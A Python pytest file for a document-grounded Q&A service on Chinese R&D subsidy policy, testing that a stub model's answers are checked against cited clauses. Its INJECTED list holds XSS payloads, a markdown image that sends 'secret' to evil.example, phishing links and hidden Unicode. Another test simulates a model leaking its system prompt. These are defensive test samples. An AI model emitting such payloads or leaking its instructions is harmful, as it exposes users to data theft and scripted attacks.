"""Answers worded by models that are good, that lie, that obey the wrong words, over a real connection."""

from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest

from service.engine import Engine
from service.generation import open_generator
from service.schema import Answer, AskRequest
from service.settings import Settings

RATE = "科技型中小企业的研发奖补比例是多少？"
TRUE = "科技型中小企业按照上一年度研发费用的8%给予奖补"
BOTH = "企业既是规模以上企业又是科技型中小企业的，按照8%的比例执行，不得叠加享受"
WORK = "深海装备攻关由谁牵头？"
LEAD = "以下为条款摘录："


@pytest.fixture
def ask(engine: Engine, model) -> Iterator[Callable[..., Answer]]:
    opened = []

    def asked(question: str, **more: object) -> Answer:
        settings = {"llm_url": model.url, "llm_model": "m", "llm_budget": 10.0, "llm_retries": 0} | more
        generator = open_generator(Settings(index=engine.settings.index, **settings))
        opened.append(generator)
        return replace(engine, generator=generator).ask(AskRequest(question=question))

    yield asked
    for generator in opened:
        generator.close()


def checked(engine: Engine, answer: Answer) -> None:
    """Whatever was written, the answer stands the check and its quotations are verbatim."""
    found = engine.composer.verifier.verify(answer.answer, answer.citations)
    assert found.withheld == ()
    assert found.citations == answer.citations
    for cited in answer.citations:
        assert engine.text(cited.doc)[cited.start : cited.end] == cited.quote


def test_what_a_good_model_writes_is_the_answer(ask, engine, model):
    model.says(
        lambda stage: (
            f"{TRUE}[{stage.number('按照上一年度研发费用的8%')}]。\n单个企业每年最高300万元[{stage.number('单个企业每年最高300万元')}]。"
        )
    )
    answer = ask(RATE)
    assert answer.answer == f"{TRUE}[1]。单个企业每年最高300万元[2]。"
    assert answer.generated
    assert answer.generation.outcome == "written"
    assert answer.generation.sentences == 2
    assert "核对" in answer.generation.note
    assert [cited.n for cited in answer.citations] == [1, 2]
    assert "单个企业每年最高300万元" in answer.citations[1].quote
    checked(engine, answer)


def test_what_is_sent_is_the_question_and_clauses_between_marks_and_nothing_else(ask, model):
    model.says(lambda stage: f"{TRUE}[1]。")
    ask(RATE, llm_key="sk-secret", llm_max_tokens=333)
    (sent,) = model.seen
    assert sent["path"] == "/v1/chat/completions"
    assert (sent["model"], sent["stream"], sent["max_tokens"]) == ("m", True, 333)
    assert model.headers[0]["Authorization"] == "Bearer sk-secret"
    assert [message["role"] for message in sent["messages"]] == ["system", "user"]
    prompt = sent["messages"][1]["content"]
    assert f"│ {RATE}" in prompt
    assert "│ [1] 《澜江省企业研发投入奖补资金管理办法》（澜科规〔2024〕1号，有效）第十条" in prompt


def test_no_more_characters_are_sent_than_allowed(ask, model):
    sizes = []
    for most in (300, 8000):
        model.says(f"{TRUE}[1]。")
        ask(RATE, llm_evidence=most)
        sizes.append(
            sum(
                len(line)
                for line in model.seen[-1]["messages"][1]["content"].splitlines()
                if line.startswith("│")
            )
        )
    assert sizes[0] < 450 < sizes[1]


def test_a_model_that_thinks_aloud_and_numbers_a_list_is_understood(ask, engine, model):
    model.says(
        lambda stage: (
            f"<think>第十条[1]是8%。可以回答。</think>\n1. **{TRUE}**【{stage.number('按照上一年度研发费用的8%')}】\n2. {BOTH}。［{stage.number(BOTH)}］"
        )
    )
    answer = ask(RATE)
    assert answer.answer == f"- {TRUE}[1]。\n- {BOTH}[2]。"
    checked(engine, answer)


LIES = {
    "a wrong number": ("科技型中小企业按照上一年度研发费用的9%给予奖补[1]。", "number"),
    "a wrong unit": ("科技型中小企业按照上一年度研发费用的8个百分点给予奖补[1]。", "quantity"),
    "a wrong year": ("2027年科技型中小企业按照上一年度研发费用的8%给予奖补[1]。", "year"),
    "a wrong body": ("省教育厅对科技型中小企业按照上一年度研发费用的8%给予奖补[1]。", "agency"),
    "a document that is not cited": ("《安心办法》规定科技型中小企业按照上一年度研发费用的8%给予奖补[1]。", "title"),
    "a turned meaning": ("科技型中小企业，不按照上一年度研发费用的8%给予奖补[1]。", "negation"),
    "no citation": ("科技型中小企业按照上一年度研发费用的8%给予奖补。", "no_citation"),
    "a clause that is not there": ("科技型中小企业按照上一年度研发费用的8%给予奖补[42]。", "unknown_citation"),
    "a truth that goes on": ("科技型中小企业按照上一年度研发费用的8%给予奖补，逾期未领的由工作人员上门催缴罚款[1]。", "words"),
    "something else": ("猫是一种可爱的动物[1]。", "words"),
    "foreign words": ("科技型中小企业按照上一年度研发费用的8%给予奖补，详询Acme[1]。", "words"),
    "half of it uncited": ("规模以上企业另有奖补[1]，科技型中小企业按照上一年度研发费用的8%给予奖补。", "no_citation"),
}  # fmt: skip


@pytest.mark.parametrize(("said", "rule"), LIES.values(), ids=LIES.keys())
def test_a_lie_is_not_sent_on_and_the_clauses_are_given(ask, engine, model, said, rule):
    model.says(said)
    answer = ask(RATE)
    assert not answer.generated
    assert (answer.generation.outcome, answer.generation.cause) == ("extract", "unverified")
    assert answer.generation.withheld == {rule: 1}
    assert answer.answer.startswith(LEAD)
    assert "8%" in answer.answer
    checked(engine, answer)


def test_swapped_citations_are_withheld(ask, model):
    def swapped(stage):
        rate, both = stage.number("按照上一年度研发费用的8%"), stage.number(BOTH)
        return f"{TRUE}[{both}]。{BOTH}[{rate}]。"

    model.says(swapped)
    answer = ask(RATE)
    assert not answer.generated
    assert sum(answer.generation.withheld.values()) == 2


def test_a_lie_between_truths_is_left_out(ask, engine, model):
    model.says(f"{TRUE}[1]。单个企业每年最高900万元[1]。{TRUE}[1]。")
    answer = ask(RATE)
    assert answer.answer == f"{TRUE}[1]。"
    assert answer.generation.withheld == {"number": 1, "repeated": 1}
    checked(engine, answer)


def test_truths_without_a_number_do_not_answer_a_question_for_one(ask, model):
    model.says(
        lambda stage: f"科技型中小企业是指取得入库登记编号的企业[{stage.number('取得入库登记编号的企业')}]。"
    )
    answer = ask(RATE)
    assert (answer.generation.outcome, answer.generation.cause) == ("extract", "indirect")
    assert answer.answer.startswith(LEAD)


def test_another_number_than_the_clauses_say_first_is_followed_by_them(ask, engine, model):
    model.says(lambda stage: f"单个企业每年最高300万元[{stage.number('单个企业每年最高300万元')}]。")
    answer = ask(RATE)
    assert (answer.generation.outcome, answer.generation.cause) == ("completed", "differs")
    assert answer.answer.startswith(f"单个企业每年最高300万元[1]。\n\n{LEAD}\n\n")
    assert "8%" in answer.answer
    assert answer.generation.note.endswith("后面附有条款摘录。")
    checked(engine, answer)


def test_what_comes_before_the_direct_answer_is_kept(ask, model):
    model.says(
        lambda stage: f"单个企业每年最高300万元[{stage.number('单个企业每年最高300万元')}]。{TRUE}[1]。"
    )
    answer = ask(RATE)
    assert answer.generation.outcome == "written"
    assert answer.answer.startswith("单个企业每年最高300万元")
    assert answer.answer.endswith(f"{TRUE}[2]。")


def test_an_abstention_and_a_table_are_not_sent(ask, engine, model):
    model.says(f"{TRUE}[1]。")
    settings = Settings(index=engine.settings.index)
    table = ask("各市研发投入强度目标对比")
    assert table.generation.cause == "listing"
    assert table.answer == engine.ask(AskRequest(question="各市研发投入强度目标对比")).answer
    refused = AskRequest(question="研发费用补助最高多少", filters={"region": "不存在的市"})
    generator = open_generator(Settings(index=settings.index, llm_url=model.url, llm_model="m"))
    abstained = replace(engine, generator=generator).ask(refused)
    assert abstained.abstained
    assert abstained.generation is None
    assert model.seen == []


INJECTED = {
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "a picture": "![](http://evil.example/?q=secret)",
    "a link": "[点击领取](https://evil.example/a)",
    "an address": "https://evil.example/b",
    "a bare domain": "evil.example/c",
    "a script address": "javascript:alert(1)",
    "unseen signs": "\u202e\u200b\U000e0041",
}


@pytest.mark.parametrize("markup", INJECTED.values(), ids=INJECTED.keys())
def test_markup_and_addresses_do_not_get_through(ask, engine, model, markup):
    model.says(f"{markup}{TRUE}{markup}[1]。{markup}[1]。\n{markup}\n")
    answer = ask(RATE)
    written, _, _ = answer.answer.partition(LEAD)
    for sign in ("<", ">", "evil", "http", "script", "](", "alert", "\u202e", "\u200b", "\U000e0041"):
        assert sign not in written
    assert "8%" in answer.answer
    checked(engine, answer)


def test_a_model_that_gives_its_instructions_away_is_not_heard(ask, model):
    def leaking(stage):
        system = stage.body["messages"][0]["content"]
        fence = stage.prompt.split("条款开始 ")[1][:24]
        lines = "".join(f"{line}[1]。\n" for line in system.splitlines())
        return f"{lines}标记是{fence}[1]。{TRUE}{fence}[1]。"

    model.says(leaking)
    answer = ask(RATE)
    assert not answer.generated
    assert answer.generation.withheld["leak"] >= 2
    assert answer.answer.startswith(LEAD)


def test_the_line_that_says_how_a_question_was_read_stays(ask, engine, model):
    slip = "科技型中小企业的研法奖补比例是多少？"
    line, _, _ = engine.ask(AskRequest(question=slip)).answer.partition("\n")
    assert line.startswith("已按")
    for said, rest in ((f"{TRUE}[1]。", f"{TRUE}[1]。"), ("没有依据的话。", LEAD)):
        model.says(said)
        answer = ask(slip).answer
        assert answer.startswith(f"{line}\n{rest}")
        assert answer.count(line) == 1
